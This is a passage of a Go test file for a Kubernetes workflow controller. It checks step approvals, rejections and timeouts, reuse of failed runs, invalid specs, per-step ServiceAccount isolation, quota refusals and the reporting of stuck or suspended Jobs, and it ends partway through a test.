	// Stamped (as admission stamps it) 90 s after the step became ready.
	approvedAt := stepOf(cur, "post-payment").ReadyTime.Add(90 * time.Second).UTC().Format(time.RFC3339)
	cur.Annotations = map[string]string{
		custodyv1alpha1.AnnotationApprovePrefix + "post-payment": `{"approvedBy":"alice","approvedAt":"` + approvedAt + `"}`,
	}
	if err := env.Client.Patch(ctxT(t), cur, patch); err != nil {
		t.Fatal(err)
	}
	wf = waitStep(t, wf, "post-payment", custodyv1alpha1.StepRunning)
	if a := stepOf(wf, "post-payment").Approval; a == nil || a.ApprovedBy != "alice" {
		t.Errorf("approval record %+v, want approvedBy alice", a)
	}
	// How long approvers take is measured: one wait of 90 s in this namespace.
	eventually(t, "the approval wait observed", func() error {
		if n, sum := histogram(t, "custody_step_approval_wait_seconds", ns, "result", "approved"); n != 1 || sum != 90 {
			return errorf("custody_step_approval_wait_seconds in this namespace: %d observations, sum %v; want one of 90 s", n, sum)
		}
		return nil
	})
	checkAudit(t, auditLines(t, logs, "Step approved"), map[string]any{"action": "approve", "actor": "alice",
		"step": "post-payment", "at": approvedAt, "workflowUID": string(wf.UID)})
	succeed(t, wf, "post-payment", 1, "")
	waitPhase(t, wf, custodyv1alpha1.WorkflowSucceeded)
}

// TestWorkflowReconciler_runningOnceAStepEnded: a run whose first step is skipped by its when is
// Running, not Pending, while its next step waits for an approver.
func TestWorkflowReconciler_runningOnceAStepEnded(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	wf := apply(t, ns, `
metadata: {name: skipped-then-gate}
spec:
  parameters: [{name: migrate, value: "no"}]
  steps:
  - {name: migrate, image: example.com/m:1, when: "params.migrate == 'yes'"}
  - {name: deploy, image: example.com/d:1, dependsOn: [migrate], approval: {approvers: {users: [bob]}}}
`)
	wf = waitStep(t, wf, "deploy", custodyv1alpha1.StepWaitingForApproval)
	if st := stepOf(wf, "migrate"); st.Phase != custodyv1alpha1.StepSkipped {
		t.Fatalf("migrate %s, want Skipped", st.Phase)
	}
	if wf.Status.Phase != custodyv1alpha1.WorkflowRunning || wf.Status.Progress != "1/2" {
		t.Errorf("phase %s, progress %s with a step skipped and one awaiting approval, want Running, 1/2", wf.Status.Phase, wf.Status.Progress)
	}
}

func TestWorkflowReconciler_approvalTimeout(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	wf := apply(t, ns, `
metadata: {name: unapproved}
spec:
  steps:
  - {name: gate, image: example.com/g:1, approval: {approvers: {users: [bob]}, timeout: 1m}}
`)
	wf = waitStep(t, wf, "gate", custodyv1alpha1.StepWaitingForApproval)
	// Backdate readyTime rather than wait a minute: the controller measures from it.
	cur := get(t, wf)
	patch := client.MergeFrom(cur.DeepCopy())
	for i := range cur.Status.Steps {
		cur.Status.Steps[i].ReadyTime = &metav1.Time{Time: time.Now().Add(-2 * time.Minute)}
	}
	if err := env.Client.Status().Patch(ctxT(t), cur, patch); err != nil {
		t.Fatal(err)
	}
	// Touch the workflow so that it is reconciled now.
	touch := client.MergeFrom(cur.DeepCopy())
	cur.Labels = map[string]string{"touched": "yes"}
	if err := env.Client.Patch(ctxT(t), cur, touch); err != nil {
		t.Fatal(err)
	}
	wf = waitPhase(t, wf, custodyv1alpha1.WorkflowFailed)
	if st := stepOf(wf, "gate"); st.Reason != custodyv1alpha1.ReasonApprovalTimedOut ||
		st.Message != "No approval came within 1m0s (approval.timeout) from user bob" {
		t.Errorf("gate reason %q (%q), want ApprovalTimedOut, naming the timeout and the approvers", st.Reason, st.Message)
	}
	eventually(t, "the wait observed as timed out", func() error {
		if n, sum := histogram(t, "custody_step_approval_wait_seconds", ns, "result", "timed_out"); n != 1 || sum != 60 {
			return errorf("custody_step_approval_wait_seconds{result=\"timed_out\"} in this namespace: %d observations, sum %v; "+
				"want one of 60 s", n, sum)
		}
		return nil
	})
}

// TestWorkflowReconciler_approvalRejected: an approver who will not approve rejects the step, with
// a reason: it fails without running and without a retry, the run fails, its finally step runs and
// sees it, and status, an Event and the approval-wait metric say who rejected it and why.
func TestWorkflowReconciler_approvalRejected(t *testing.T) {
	t.Parallel()
	ns, logs := setupAudited(t)
	wf := apply(t, ns, `
metadata: {name: pay}
spec:
  steps:
  - {name: check, image: example.com/c:1}
  - name: post-payment
    dependsOn: [check]
    image: example.com/p:1
    approval: {approvers: {users: [carol]}}
    retries: {limit: 2}
  - {name: notify, image: example.com/n:1, dependsOn: [post-payment]}
  finally:
  - {name: report, image: example.com/r:1, when: "workflow.phase == 'Failed'"}
`)
	succeed(t, wf, "check", 1, "")
	cur := waitStep(t, wf, "post-payment", custodyv1alpha1.StepWaitingForApproval)
	patch := client.MergeFrom(cur.DeepCopy())
	// Stamped (as admission stamps it) 30 s after the step became ready.
	rejectedAt := stepOf(cur, "post-payment").ReadyTime.Add(30 * time.Second).UTC().Format(time.RFC3339)
	cur.Annotations = map[string]string{custodyv1alpha1.AnnotationRejectPrefix + "post-payment": `{"rejectedBy":"carol","rejectedAt":"` +
		rejectedAt + `","reason":"the total does not match the purchase order"}`}
	if err := env.Client.Patch(ctxT(t), cur, patch); err != nil {
		t.Fatal(err)
	}
	wf = waitStep(t, wf, "post-payment", custodyv1alpha1.StepFailed)
	st := stepOf(wf, "post-payment")
	if st.Reason != custodyv1alpha1.ReasonApprovalRejected || st.Message != "Rejected by carol: the total does not match the purchase order" ||
		st.Attempt != 0 || st.Approval != nil {
		t.Errorf("post-payment %s (%s) %q attempt %d approval %+v; want it failed by the rejection, never attempted",
			st.Phase, st.Reason, st.Message, st.Attempt, st.Approval)
	}
	if r := st.Rejection; r == nil || r.RejectedBy != "carol" || r.Reason != "the total does not match the purchase order" ||
		r.RejectedAt.UTC().Format(time.RFC3339) != rejectedAt {
		t.Errorf("rejection record %+v, want carol's, with her reason and time", r)
	}
	checkAudit(t, auditLines(t, logs, "Step rejected"), map[string]any{"action": "reject", "actor": "carol", "step": "post-payment",
		"at": rejectedAt, "reason": "the total does not match the purchase order", "workflow": map[string]any{"name": "pay", "namespace": ns}})
	succeed(t, wf, "report", 1, "")
	wf = waitPhase(t, wf, custodyv1alpha1.WorkflowFailed)
	if st := stepOf(wf, "notify"); st.Phase != custodyv1alpha1.StepCancelled && st.Phase != custodyv1alpha1.StepSkipped {
		t.Errorf("notify %s after its dependency was rejected, want it not run", st.Phase)
	}
	for _, j := range jobs(t, wf) {
		if step := j.Labels[custodyv1alpha1.LabelStep]; step != "check" && step != "report" {
			t.Errorf("Job %s of step %s: a rejected step or its dependents ran", j.Name, step)
		}
	}
	if notes := waitStepEvents(t, wf, "post-payment", custodyv1alpha1.ReasonApprovalRejected); len(notes) != 1 ||
		notes[0] != "Step post-payment: Rejected by carol: the total does not match the purchase order" {
		t.Errorf("ApprovalRejected Events %q, want one naming carol and her reason", notes)
	}
	eventually(t, "the wait observed as rejected", func() error {
		if n, sum := histogram(t, "custody_step_approval_wait_seconds", ns, "result", "rejected"); n != 1 || sum != 30 {
			return errorf("custody_step_approval_wait_seconds{result=\"rejected\"} in this namespace: %d observations, sum %v; "+
				"want one of 30 s", n, sum)
		}
		return nil
	})
}

// TestWorkflowReconciler_reuseFrom: a run that reuses a failed run takes over the steps that
// succeeded there (their results, no Job, no ServiceAccount) and runs the rest and its finally
// steps; a run whose reuseFrom names a run with other parameter values, or none, fails before
// any step starts.
// reuseSpec is a release whose test step fails in failedRelease.
const reuseSpec = `
  parameters: [{name: version, value: "1.4"}]
  steps:
  - {name: build, image: example.com/b:1, results: [{name: digest}]}
  - {name: lint, image: example.com/l:1}
  - {name: test, image: example.com/t:1, dependsOn: [build]}
  - {name: deploy, image: example.com/d:1, dependsOn: [test, lint], args: ["--image=app@$(steps.build.results.digest)"]}
  finally:
  - {name: notify, image: example.com/n:1, args: ["$(workflow.phase)"]}
`

// failedRelease runs reuseSpec as workflow release until its test step fails.
func failedRelease(t *testing.T, ns string) *custodyv1alpha1.Workflow {
	t.Helper()
	first := apply(t, ns, "metadata: {name: release}\nspec:"+reuseSpec)
	succeed(t, first, "build", 1, `{"digest":"sha256:0a1b"}`)
	succeed(t, first, "lint", 1, "")
	fail(t, first, "test", 1)
	succeed(t, first, "notify", 1, "")
	return waitPhase(t, first, custodyv1alpha1.WorkflowFailed)
}

func TestWorkflowReconciler_reuseFrom(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	const spec = reuseSpec
	first := failedRelease(t, ns)

	rest := apply(t, ns, "metadata: {name: release-rest}\nspec:\n  reuseFrom: release"+spec)
	succeed(t, rest, "test", 1, "")
	deploy := succeed(t, rest, "deploy", 1, "")
	if args := deploy.Spec.Template.Spec.Containers[0].Args; len(args) != 1 || args[0] != "--image=app@sha256:0a1b" {
		t.Errorf("deploy's args %v, want the digest build reported in the run it reuses", args)
	}
	succeed(t, rest, "notify", 1, "")
	rest = waitPhase(t, rest, custodyv1alpha1.WorkflowSucceeded)
	for _, name := range []string{"build", "lint"} {
		st := stepOf(rest, name)
		if st.Phase != custodyv1alpha1.StepSucceeded || st.Reason != custodyv1alpha1.StepReasonReused || st.Attempt != 0 || st.JobName != "" ||
			st.ServiceAccountName != "" || st.Message != "Succeeded in workflow release (attempt 1); not run again" {
			t.Errorf("%s: %+v, want Succeeded (Reused) with no attempt of its own", name, st)
		}
	}
	if st := stepOf(rest, "build"); len(st.Results) != 1 || st.Results[0].Value != "sha256:0a1b" {
		t.Errorf("build's results %v, want those of the run it reuses", st.Results)
	}
	if r := rest.Status.Reused; r == nil || r.Name != "release" || r.UID != string(first.UID) || r.Steps != 2 {
		t.Errorf("status.reused %+v, want release (%s), 2 steps", r, first.UID)
	}
	ran := map[string]bool{}
	for _, j := range jobs(t, rest) {
		ran[j.Labels[custodyv1alpha1.LabelStep]] = true
	}
	if len(ran) != 3 || !ran["test"] || !ran["deploy"] || !ran["notify"] {
		t.Errorf("the run reusing release ran Jobs for %v, want test, deploy and notify only", ran)
	}
	if notes := stepEvents(t, rest, custodyv1alpha1.ReasonReused)[""]; len(notes) != 1 ||
		notes[0] != "Reused 2 steps that succeeded in workflow release: build, lint" {
		t.Errorf("Reused Events: %q", notes)
	}

	for name, c := range map[string]struct{ manifest, want string }{
		"other parameter value": {strings.Replace("metadata: {name: release-1-5}\nspec:\n  reuseFrom: release"+spec, `"1.4"`, `"1.5"`, 1),
			`reuseFrom: parameter "version" has another value in workflow release`},
		"missing run": {"metadata: {name: release-nope}\nspec:\n  reuseFrom: nope" + spec, "reuseFrom: workflow nope does not exist"},
		"succeeded run": {"metadata: {name: release-again}\nspec:\n  reuseFrom: release-rest" + spec,
			"reuseFrom: workflow release-rest succeeded, so none of its steps needs to run again"},
	} {
		wf := waitPhase(t, apply(t, ns, c.manifest), custodyv1alpha1.WorkflowFailed)
		cond := meta.FindStatusCondition(wf.Status.Conditions, custodyv1alpha1.ConditionStalled)
		if cond == nil || cond.Reason != custodyv1alpha1.ReasonInvalidReuse || !strings.Contains(cond.Message, c.want) {
			t.Errorf("%s: Stalled condition %+v, want reason InvalidReuse saying %q", name, cond, c.want)
		}
		if st := stepOf(wf, "build"); st.Phase != custodyv1alpha1.StepSkipped || st.Reason != custodyv1alpha1.ReasonInvalidReuse {
			t.Errorf("%s: build %s (%s), want Skipped (InvalidReuse)", name, st.Phase, st.Reason)
		}
		if n := len(jobs(t, wf)); n != 0 {
			t.Errorf("%s: %d Jobs created", name, n)
		}
	}
}

// TestWorkflowReconciler_reuseAfterAFix: a run that fixes the failed step of the run it reuses,
// and changes a step that succeeded there too, takes over what is as it was; the changed step
// runs again, and so does everything after it, with an Event saying which and why.
func TestWorkflowReconciler_reuseAfterAFix(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	failedRelease(t, ns)
	fixed := strings.NewReplacer("example.com/t:1", "example.com/t:2", "example.com/l:1", "example.com/l:2").Replace(reuseSpec)
	fixedRun := apply(t, ns, "metadata: {name: release-fixed}\nspec:\n  reuseFrom: release"+fixed)
	succeed(t, fixedRun, "lint", 1, "")
	succeed(t, fixedRun, "test", 1, "")
	deploy := succeed(t, fixedRun, "deploy", 1, "")
	if args := deploy.Spec.Template.Spec.Containers[0].Args; len(args) != 1 || args[0] != "--image=app@sha256:0a1b" {
		t.Errorf("deploy's args %v after a fix, want the digest build reported in the run it reuses", args)
	}
	succeed(t, fixedRun, "notify", 1, "")
	fixedRun = waitPhase(t, fixedRun, custodyv1alpha1.WorkflowSucceeded)
	if st := stepOf(fixedRun, "build"); st.Reason != custodyv1alpha1.StepReasonReused {
		t.Errorf("build after a fix to other steps: %s (%s), want Reused", st.Phase, st.Reason)
	}
	if st := stepOf(fixedRun, "lint"); st.Reason == custodyv1alpha1.StepReasonReused || st.Attempt != 1 {
		t.Errorf("lint, changed since it succeeded: %s (%s), attempt %d, want run again", st.Phase, st.Reason, st.Attempt)
	}
	if r := fixedRun.Status.Reused; r == nil || r.Steps != 1 {
		t.Errorf("status.reused %+v after a fix, want 1 step", r)
	}
	eventually(t, "the Reused Event to name what runs again", func() error {
		want := "Reused step build, which succeeded in workflow release; succeeded there but run again: lint (it changed)"
		if notes := stepEvents(t, fixedRun, custodyv1alpha1.ReasonReused)[""]; len(notes) != 1 || notes[0] != want {
			return fmt.Errorf("reused Events %q, want %q", notes, want)
		}
		return nil
	})
}

func TestWorkflowReconciler_invalidSpec(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	cases := map[string]string{
		"cycle": `
metadata: {name: cycle}
spec:
  steps:
  - {name: a, image: example.com/w:1, dependsOn: [b]}
  - {name: b, image: example.com/w:1, dependsOn: [a]}`,
		"when": `
metadata: {name: bad-when}
spec:
  steps:
  - {name: a, image: example.com/w:1, when: "params.x >"}`,
		// More steps than status can list once forEach items are counted (admission refuses it).
		"forEach": `
metadata: {name: too-many-items}
spec:
  steps:
  - {name: a, image: example.com/w:1, forEach: [i1, i2, i3, i4, i5, i6, i7, i8, i9, i10, i11, i12, i13, i14, i15, i16]}
  - {name: b, image: example.com/w:1, forEach: [i1, i2, i3, i4, i5, i6, i7, i8, i9, i10, i11, i12, i13, i14, i15, i16]}
  - {name: c, image: example.com/w:1, forEach: [i1, i2, i3, i4, i5, i6, i7, i8, i9, i10, i11, i12, i13, i14, i15, i16]}
  - {name: d, image: example.com/w:1, forEach: [i1, i2, i3, i4, i5, i6, i7, i8, i9, i10, i11, i12, i13, i14, i15, i16]}
  - {name: e, image: example.com/w:1}`,
		// Items from a parameter that lists an item twice and one that is not a DNS label.
		"forEach-parameter": `
metadata: {name: bad-items}
spec:
  parameters: [{name: regions, value: "eu,eu,Mars"}]
  steps:
  - {name: a, image: example.com/w:1, forEach: ["$(params.regions)"], args: ["$(item)"]}
  - {name: b, image: example.com/w:1, dependsOn: [a]}`,
	}
	messages := map[string]string{
		"forEach":           "the workflow runs 65 steps once forEach items are counted; at most 64",
		"forEach-parameter": `step "a": forEach item "eu" (from parameter regions) is listed twice; step "a": forEach item "Mars"`,
	}
	for name, manifest := range cases {
		wf := apply(t, ns, manifest)
		wf = waitPhase(t, wf, custodyv1alpha1.WorkflowFailed)
		c := meta.FindStatusCondition(wf.Status.Conditions, custodyv1alpha1.ConditionStalled)
		if c == nil || c.Reason != custodyv1alpha1.ReasonInvalidSpec {
			t.Errorf("%s: Stalled condition %+v, want reason InvalidSpec", name, c)
		}
		if want := messages[name]; c != nil && !strings.Contains(c.Message, want) {
			t.Errorf("%s: Stalled message %q, want it to say %q", name, c.Message, want)
		}
		if n := len(jobs(t, wf)); n != 0 {
			t.Errorf("%s: %d Jobs created for an invalid workflow", name, n)
		}
	}
}

func TestWorkflowReconciler_invalidReferenceFailsStep(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	wf := apply(t, ns, `
metadata: {name: bad-ref}
spec:
  steps:
  - {name: a, image: example.com/w:1, args: ["$(params.missing)"]}`)
	wf = waitPhase(t, wf, custodyv1alpha1.WorkflowFailed)
	if st := stepOf(wf, "a"); st.Reason != custodyv1alpha1.StepReasonInvalidReference || !strings.Contains(st.Message, "$(params.missing)") {
		t.Errorf("step a: %s: %s", st.Reason, st.Message)
	}
}

// TestWorkflowReconciler_stepIdentity checks what each attempt runs as: its own ServiceAccount
// with no token mounted and nothing bound to it, and a pod that the restricted Pod Security
// Standard admits.
func TestWorkflowReconciler_stepIdentity(t *testing.T) {
	t.Parallel()
	ns := setup(t, map[string]string{"pod-security.kubernetes.io/enforce": "restricted"})
	wf := apply(t, ns, `
metadata: {name: identity}
spec:
  steps:
  - {name: a, image: example.com/w:1}
  - {name: b, image: example.com/w:1}`)
	ja, jb := jobOf(t, wf, "a", 1), jobOf(t, wf, "b", 1)
	if ja.Spec.Template.Spec.ServiceAccountName == jb.Spec.Template.Spec.ServiceAccountName {
		t.Fatal("two steps share a ServiceAccount")
	}
	sa := &corev1.ServiceAccount{}
	if err := env.Client.Get(ctxT(t), client.ObjectKey{Namespace: ns, Name: ja.Spec.Template.Spec.ServiceAccountName}, sa); err != nil {
		t.Fatal(err)
	}
	if sa.AutomountServiceAccountToken == nil || *sa.AutomountServiceAccountToken {
		t.Error("the step ServiceAccount mounts a token automatically")
	}
	if !metav1.IsControlledBy(sa, get(t, wf)) || !metav1.IsControlledBy(ja, get(t, wf)) {
		t.Error("ServiceAccount and Job must be controlled by the Workflow")
	}
	var rbs rbacv1.RoleBindingList
	if err := env.Client.List(ctxT(t), &rbs, client.InNamespace(ns)); err != nil {
		t.Fatal(err)
	}
	if len(rbs.Items) != 0 {
		t.Errorf("%d RoleBindings exist; a step without grants gets none", len(rbs.Items))
	}
	// The restricted Pod Security admission in the API server admits the Job's pod...
	runPod(t, ja, 0, "")
	// ...and does enforce here: the same pod on the host network is refused.
	bad := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "privileged", Namespace: ns},
		Spec:       *ja.Spec.Template.Spec.DeepCopy(),
	}
	bad.Spec.HostNetwork = true
	if err := env.Client.Create(ctxT(t), bad); err == nil || !strings.Contains(err.Error(), "violates PodSecurity \"restricted") {
		t.Errorf("a host-network pod was not refused by restricted Pod Security admission: %v", err)
	}
	for _, l := range []string{custodyv1alpha1.LabelWorkflow, custodyv1alpha1.LabelStep, custodyv1alpha1.LabelAttempt} {
		if ja.Labels[l] == "" {
			t.Errorf("Job lacks label %s", l)
		}
	}
	if ja.Name != jobspec.Name("identity", string(get(t, wf).UID), "a", 1) {
		t.Errorf("Job name %q is not the deterministic attempt name", ja.Name)
	}
}

// TestWorkflowReconciler_unrecordedAttemptStopsWithItsStep: a Job whose attempt status does not
// show started (the reconcile that created it lost its status write) is stopped when its step ends
// without it: here, skipped because another step failed. It would otherwise run to the end,
// accounted for nowhere.
func TestWorkflowReconciler_unrecordedAttemptStopsWithItsStep(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	wf := apply(t, ns, `
metadata: {name: orphan}
spec:
  parallelism: 1
  steps:
  - {name: a, image: example.com/w:1}
  - {name: b, image: example.com/w:1}`)
	wf = waitStep(t, wf, "a", custodyv1alpha1.StepRunning)
	if st := stepOf(wf, "b"); st.Phase != custodyv1alpha1.StepPending {
		t.Fatalf("b is %s while a holds the only slot", st.Phase)
	}
	// What the lost reconcile left: b's first attempt's Job, and no record of it.
	orphan := jobspec.Job(jobspec.Attempt{Workflow: wf, Step: &wf.Spec.Steps[1], Number: 1})
	if err := env.Client.Create(ctxT(t), orphan); err != nil {
		t.Fatal(err)
	}
	fail(t, wf, "a", 1)
	wf = waitPhase(t, wf, custodyv1alpha1.WorkflowFailed)
	if st := stepOf(wf, "b"); st.Phase != custodyv1alpha1.StepSkipped {
		t.Errorf("b is %s, want Skipped (fail fast)", st.Phase)
	}
	eventually(t, "the unrecorded attempt's Job stopped", func() error {
		cur := &batchv1.Job{}
		err := env.Client.Get(ctxT(t), client.ObjectKeyFromObject(orphan), cur)
		if isNotFound(err) || (err == nil && !cur.DeletionTimestamp.IsZero()) {
			return nil
		}
		return errorf("Job %s still runs (err %v)", orphan.Name, err)
	})
}

// TestWorkflowReconciler_refusedJob covers the two ways the API server can refuse an attempt's
// Job. One it calls invalid (resource requests above limits, which the CRD cannot check) fails the
// step at once, with the API server's words, and without retries that would be refused the same
// way. One a ResourceQuota refuses leaves the step waiting with the refusal in its status until
// the quota allows it.
func TestWorkflowReconciler_refusedJob(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	ctx := ctxT(t)

	wf := apply(t, ns, `
metadata: {name: too-small}
spec:
  steps:
  - name: a
    image: example.com/w:1
    retries: {limit: 2, backoff: {duration: 1s}}
    resources: {requests: {cpu: "2"}, limits: {cpu: "1"}}`)
	wf = waitPhase(t, wf, custodyv1alpha1.WorkflowFailed)
	st := stepOf(wf, "a")
	if st.Phase != custodyv1alpha1.StepFailed || st.Reason != custodyv1alpha1.StepReasonJobInvalid || st.Attempt != 1 ||
		!strings.Contains(st.Message, "must be less than or equal to cpu limit") {
		t.Errorf("step a: %s %s attempt %d: %s; want Failed JobInvalid on attempt 1 with the API server's reason",
			st.Phase, st.Reason, st.Attempt, st.Message)
	}
	if c := meta.FindStatusCondition(wf.Status.Conditions, custodyv1alpha1.ConditionStalled); c == nil ||
		!strings.Contains(c.Message, "cpu limit") {
		t.Errorf("Stalled condition %+v does not say why", c)
	}
	if n := len(jobs(t, wf)); n != 0 {
		t.Errorf("%d Jobs exist", n)
	}
	if got := waitStepEvents(t, wf, "a", custodyv1alpha1.StepReasonJobInvalid); len(got) != 1 {
		t.Errorf("JobInvalid Events of step a: %q, want one", got)
	}
	eventually(t, "the attempt's ServiceAccount to be deleted", func() error {
		sa := &corev1.ServiceAccount{}
		err := env.Client.Get(ctx, client.ObjectKey{Namespace: ns, Name: st.ServiceAccountName}, sa)
		if !isNotFound(err) {
			return errorf("ServiceAccount %q: %v", st.ServiceAccountName, err)
		}
		return nil
	})

	// A quota of no Jobs at all; the test plays the quota controller and sets its status.
	quota := &corev1.ResourceQuota{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "no-jobs"},
		Spec:       corev1.ResourceQuotaSpec{Hard: corev1.ResourceList{"count/jobs.batch": resource.MustParse("0")}},
	}
	if err := env.Client.Create(ctx, quota); err != nil {
		t.Fatal(err)
	}
	eventually(t, "quota status", func() error {
		if err := env.Client.Get(ctx, client.ObjectKeyFromObject(quota), quota); err != nil {
			return err
		}
		quota.Status = corev1.ResourceQuotaStatus{Hard: quota.Spec.Hard, Used: corev1.ResourceList{"count/jobs.batch": resource.MustParse("0")}}
		return env.Client.Status().Update(ctx, quota)
	})
	wf = apply(t, ns, `
metadata: {name: over-quota}
spec:
  steps:
  - {name: a, image: example.com/w:1}`)
	eventually(t, "step a to say why it cannot start", func() error {
		cur := get(t, wf)
		st := stepOf(cur, "a")
		ready := meta.FindStatusCondition(cur.Status.Conditions, custodyv1alpha1.ConditionReady)
		if st.Phase != custodyv1alpha1.StepPending || st.Reason != custodyv1alpha1.StepReasonCreateFailed ||
			!strings.Contains(st.Message, "exceeded quota: no-jobs") || ready == nil || !strings.Contains(ready.Message, "Cannot get going (see the step's message): a (CreateFailed)") {
			return errorf("step a %s %s: %s; Ready %+v", st.Phase, st.Reason, st.Message, ready)
		}
		return nil
	})
	waitStepEvents(t, wf, "a", custodyv1alpha1.StepReasonCreateFailed)
	// A step with a timeout gives up once it passed, as it does waiting for its grants.
	impatient := apply(t, ns, `
metadata: {name: over-quota-impatient}
spec:
  steps:
  - {name: a, image: example.com/w:1, timeout: 2s}`)
	impatient = waitPhase(t, impatient, custodyv1alpha1.WorkflowFailed)
	if st := stepOf(impatient, "a"); st.Reason != custodyv1alpha1.StepReasonCreateFailed ||
		!strings.Contains(st.Message, "gave up after the step's timeout of 2s") || !strings.Contains(st.Message, "exceeded quota: no-jobs") {
		t.Errorf("impatient step a: %s %s: %s", st.Phase, st.Reason, st.Message)
	}
	if err := env.Client.Delete(ctx, quota); err != nil {
		t.Fatal(err)
	}
	succeed(t, wf, "a", 1, "")
	waitPhase(t, wf, custodyv1alpha1.WorkflowSucceeded)
}

// TestWorkflowReconciler_podNotCreated: a Job whose pod the Job controller cannot create (here a
// quota that wants CPU limits) leaves the step running without a pod; the step's status repeats
// the Job controller's FailedCreate Event instead of saying nothing, and goes back to Started once
// a pod exists.
func TestWorkflowReconciler_podNotCreated(t *testing.T) {
	t.Parallel()
	ns := env.Namespace(t)
	startController(t, ns, func(r *Reconciler) { r.PodCreationGrace = time.Second })
	ctx := ctxT(t)
	wf := apply(t, ns, `
metadata: {name: no-limits}
spec:
  steps:
  - {name: a, image: example.com/w:1}`)
	job := jobOf(t, wf, "a", 1)
	// As kube-controller-manager's Job controller records it.
	note := `Error creating: pods "no-limits-a-1-x7k2p" is forbidden: failed quota: compute: must specify limits.cpu for: step`
	now := metav1.Now()
	if err := env.Client.Create(ctx, &corev1.Event{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: job.Name + ".failedcreate"},
		InvolvedObject: corev1.ObjectReference{APIVersion: "batch/v1", Kind: "Job", Namespace: ns, Name: job.Name,
			UID: job.UID},
		Reason: "FailedCreate", Message: note, Type: corev1.EventTypeWarning,
		Source:         corev1.EventSource{Component: "job-controller"},
		FirstTimestamp: now, LastTimestamp: now, Count: 3,
	}); err != nil {
		t.Fatal(err)
	}
	eventually(t, "step a to say why it has no pod", func() error {
		st := stepOf(get(t, wf), "a")
		if st.Phase != custodyv1alpha1.StepRunning || st.Reason != custodyv1alpha1.StepReasonPodNotCreated ||
			!strings.Contains(st.Message, "must specify limits.cpu for: step") {
			return errorf("step a %s %s: %s", st.Phase, st.Reason, st.Message)
		}
		return nil
	})
	if got := waitStepEvents(t, wf, "a", custodyv1alpha1.StepReasonPodNotCreated); len(got) != 1 {
		t.Errorf("PodNotCreated Events of step a: %q, want one", got)
	}
	pod := createPod(t, job, "b9m4q")
	eventually(t, "step a to be Started again", func() error {
		st := stepOf(get(t, wf), "a")
		if st.Reason != custodyv1alpha1.StepReasonStarted || st.PodName != pod.Name {
			return errorf("step a %s %s: %s (pod %q)", st.Phase, st.Reason, st.Message, st.PodName)
		}
		return nil
	})
	if err := env.Client.Delete(ctx, pod, client.GracePeriodSeconds(0)); err != nil {
		t.Fatal(err)
	}
	succeed(t, wf, "a", 1, "")
	waitPhase(t, wf, custodyv1alpha1.WorkflowSucceeded)
}

// TestWorkflowReconciler_suspendedJobSaysSo plays Kueue, which creates a step's Job suspended and
// resumes it once it admits it: meanwhile the step says that it waits in the queue (once, with an
// Event), and it is Started again when the pod comes.
func TestWorkflowReconciler_suspendedJobSaysSo(t *testing.T) {
	t.Parallel()
	ns := env.Namespace(t)
	startController(t, ns, func(r *Reconciler) { r.PodCreationGrace = time.Second })
	ctx := ctxT(t)
	wf := apply(t, ns, `
metadata: {name: queued}
spec:
  steps:
  - {name: train, image: example.com/t:1}`)
	job := jobOf(t, wf, "train", 1)
	suspend := func(on bool) {
		t.Helper()
		patch := fmt.Sprintf(`{"metadata":{"labels":{"kueue.x-k8s.io/queue-name":"gpu"}},"spec":{"suspend":%t}}`, on)
		if err := env.Client.Patch(ctx, job, client.RawPatch(types.MergePatchType, []byte(patch))); err != nil {
			t.Fatal(err)
		}
	}
	suspend(true)
	want := "Attempt 1's Job " + job.Name + " is suspended: it runs once resumed, as a job queue such as Kueue does when it admits it " +
		"(LocalQueue gpu)"
	eventually(t, "the step to say its Job is suspended", func() error {
		st := stepOf(get(t, wf), "train")
		if st.Phase != custodyv1alpha1.StepRunning || st.Reason != custodyv1alpha1.StepReasonJobSuspended || st.Message != want {
			return errorf("step train %s %s: %s", st.Phase, st.Reason, st.Message)
		}
		return nil
	})
	if c := meta.FindStatusCondition(get(t, wf).Status.Conditions, custodyv1alpha1.ConditionReady); c == nil ||
		!strings.Contains(c.Message, "Jobs suspended until a queue admits them: train") {
		t.Errorf("Ready condition %+v, want it to say train's Job waits for a queue", c)
	}
	suspend(false)
	pod := createPod(t, job, "q4w5e")
	eventually(t, "step train to be Started again", func() error {
		st := stepOf(get(t, wf), "train")
		if st.Reason != custodyv1alpha1.StepReasonStarted || st.PodName != pod.Name {
			return errorf("step train %s %s: %s (pod %q)", st.Phase, st.Reason, st.Message, st.PodName)
		}
		return nil
	})
	if got := waitStepEvents(t, wf, "train", custodyv1alpha1.StepReasonJobSuspended); len(got) != 1 {
		t.Errorf("JobSuspended Events of step train: %q, want one", got)
	}
	removePod(t, pod)
	succeed(t, wf, "train", 1, "")
	waitPhase(t, wf, custodyv1alpha1.WorkflowSucceeded)
}

// TestWorkflowReconciler_podThatCannotStartSaysWhy plays the kubelet: a step pod on its node whose
// container is still being created after the grace, because a volume cannot be mounted (the SPIFFE
// CSI driver missing on the node), leaves the step Running but saying so, from the kubelet's
// Warning Event; a pod whose image is only being pulled is not reported; once the container runs
// the step is Started again.
//
// Not parallel: TestWorkflowReconciler_stuckPodSaysWhy counts the steps blocked by this reason.
func TestWorkflowReconciler_podThatCannotStartSaysWhy(t *testing.T) {
	ns := env.Namespace(t)
	startController(t, ns, func(r *Reconciler) { r.PodStartGrace = time.Second })
	ctx := ctxT(t)
	wf := apply(t, ns, `
metadata: {name: unmounted}
spec:
  steps:
  - {name: a, image: example.com/w:1}
  - {name: b, image: example.com/w:1}`)
	pods := map[string]*corev1.Pod{}
	for _, name := range []string{"a", "b"} {
		pod := createPod(t, jobOf(t, wf, name, 1), "k2x9p")
		pod.Status = corev1.PodStatus{Phase: corev1.PodPending,
			Conditions: []corev1.PodCondition{{Type: corev1.PodScheduled, Status: corev1.ConditionTrue, LastTransitionTime: metav1.Now()}},
			ContainerStatuses: []corev1.ContainerStatus{{Name: jobspec.ContainerName, Image: "example.com/w:1",
				State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "ContainerCreating"}}}}}
		if err := env.Client.Status().Update(ctx, pod); err != nil {
